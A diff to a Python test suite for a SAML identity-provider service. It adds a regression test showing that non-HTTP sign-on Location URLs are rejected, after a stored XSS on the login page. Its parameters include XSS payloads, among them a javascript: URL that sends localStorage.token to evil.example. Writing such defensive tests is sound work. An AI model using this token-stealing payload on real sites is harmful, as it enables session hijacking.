@@ -4,6 +4,7 @@ not SAML metadata, and files over the 10 MiB limit."""
 
 from __future__ import annotations
 
+import html
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -120,3 +121,17 @@ def test_an_update_with_hostile_metadata_changes_nothing(admin: httpx.Client, ro
                                files={"metadata": ("m.xml", document, "application/xml")})
         assert_error(response, 400)
     assert admin.get(url).json()["data"]["details"] == created
+
+
+@pytest.mark.parametrize("location", ["javascript:fetch('//evil.example/'+localStorage.token)",
+                                      "data:text/html,<script>alert(1)</script>", "JaVaScRiPt:alert(1)", "//no-scheme"])
+def test_a_sign_on_location_that_is_not_http_is_refused(admin: httpx.Client, location: str) -> None:
+    # The public login page posts the browser to it: a script URL there ran in our origin (stored XSS).
+    name = unique_name()
+    hostile = idp.OKTA.replace(f'Location="{idp.OKTA_SSO_POST}"/>'.encode(),
+                               f'Location="{html.escape(location)}"/>'.encode())
+    assert hostile != idp.OKTA
+    response = create(admin, name, hostile)
+    assert_error(response, 400)
+    assert "is not an http(s) URL" in response.json()["errors"][0]["message"]
+    assert name not in provider_names(admin)
